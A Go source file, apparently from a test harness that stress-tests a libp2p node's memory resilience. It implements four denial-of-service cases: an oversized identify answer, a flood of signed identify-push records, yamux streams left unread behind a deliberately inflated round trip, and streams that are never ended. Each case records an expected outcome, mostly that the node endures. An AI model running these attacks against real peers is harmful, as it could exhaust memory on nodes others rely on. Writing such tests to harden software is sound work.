package main

import (
	"fmt"
	"time"

	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	"github.com/libp2p/go-libp2p/core/record"
)

// What a node remembers of strangers, and what waits for its readers.

// largeIdentity is the largest answer that a node reads: ten parts of 8 KiB, full of protocols.
func largeIdentity() []byte {
	const parts, size = 10, 8100
	out := lengthPrefixed(identity())
	for part := range parts - 1 {
		var fields []byte
		for i := 0; len(fields) < size-100; i++ {
			fields = append(fields, field(3, []byte(fmt.Sprintf("/no/such/protocol/%d/%d/%x", part, i, noise(30))))...)
		}
		out = append(out, lengthPrefixed(fields)...)
	}
	return out
}

// rememberMe answers identify at length and comes again as another identity once the node has all of it.
func rememberMe(a *attack) error {
	answered := make(chan error, 10)
	s, err := a.yamux()
	if err != nil {
		return err
	}
	s.handler[identify] = func(t *stream, _ []byte) {
		go func() {
			s.reach(layerStream)
			err := t.write(largeIdentity())
			if err == nil {
				err = s.send(data(t.id, flagFIN, nil))
			}
			answered <- err
		}()
	}
	s.start()
	select {
	case err = <-answered:
	case <-time.After(time.Until(a.until)):
		return errOver
	}
	if err != nil {
		return err
	}
	// The node has read it when it answers a ping that was sent behind it.
	if t, err := s.open(ping); err == nil {
		t.write(noise(32))
		time.Sleep(20 * time.Millisecond)
	}
	return errLeaving
}

// signedPush is an identity with a record of addresses that its own key has signed.
func signedPush(key crypto.PrivKey) ([]byte, error) {
	id, err := peer.IDFromPrivateKey(key)
	if err != nil {
		return nil, err
	}
	envelope, err := record.Seal(&peer.PeerRecord{PeerID: id, Seq: 1}, key)
	if err != nil {
		return nil, err
	}
	sealed, err := envelope.Marshal()
	if err != nil {
		return nil, err
	}
	public, err := crypto.MarshalPublicKey(key.GetPublic())
	return lengthPrefixed(append(append(identity(), field(1, public)...), field(8, sealed)...)), err
}

// pushSigned pushes such identities as fast as it can.
func pushSigned(s *session) error {
	bytes, err := signedPush(s.key)
	if err != nil {
		return err
	}
	return openingEach(push, func(_ int, stream uint32) []byte {
		return append(data(stream, 0, bytes), data(stream, flagFIN, nil)...)
	})(s)
}

// unread answers the node's pings late, so that its round trip is long and every window is used up within a few of them; has the
// windows of ping streams grow by what it sends and reads, and then sends as much again without reading.
func unread(a *attack) error {
	const streams, large = 2, 16 << 20
	s, err := a.yamux()
	if err != nil {
		return err
	}
	s.late, s.batch = 4*time.Second, 64<<10
	s.start()
	time.Sleep(min(s.late+500*time.Millisecond, time.Until(a.until)))
	done := make(chan error, streams)
	for range streams {
		t, err := s.open(ping)
		if err != nil {
			return err
		}
		go func() {
			err := t.write(make([]byte, large))
			s.mutex.Lock()
			t.mute = true
			s.mutex.Unlock()
			if err == nil {
				err = t.write(make([]byte, 2*large))
			}
			done <- err
		}()
	}
	for range streams {
		err = <-done
	}
	if err == errReset {
		return a.wait()
	}
	return err
}

// neverEnded opens a stream of each service, lets the node answer and does not end it, again and again.
func neverEnded(s *session) error {
	return s.again(func(i int) error {
		number, err := s.throw([]protocol.ID{ping, identify, push, blocks}[i%4])
		if err != nil || i%4 == 1 {
			return err
		}
		return s.send(data(number, 0, []byte{1, 0, 0}))
	})
}

var memoryCases = map[string]torment{
	"identify-78-kilobytes":                        {ends: either, reaches: layerStream, written: 70_000, identities: 16, run: rememberMe},
	"identify-push-signed-flood":                   {ends: endured, reaches: layerYamux, written: 100_000, run: overYamux(pushSigned)},
	"streams-unread-behind-an-inflated-round-trip": {ends: endured, reaches: layerYamux, run: unread},
	"streams-never-ended":                          {ends: endured, reaches: layerYamux, written: 100_000, run: overYamux(neverEnded)},
}
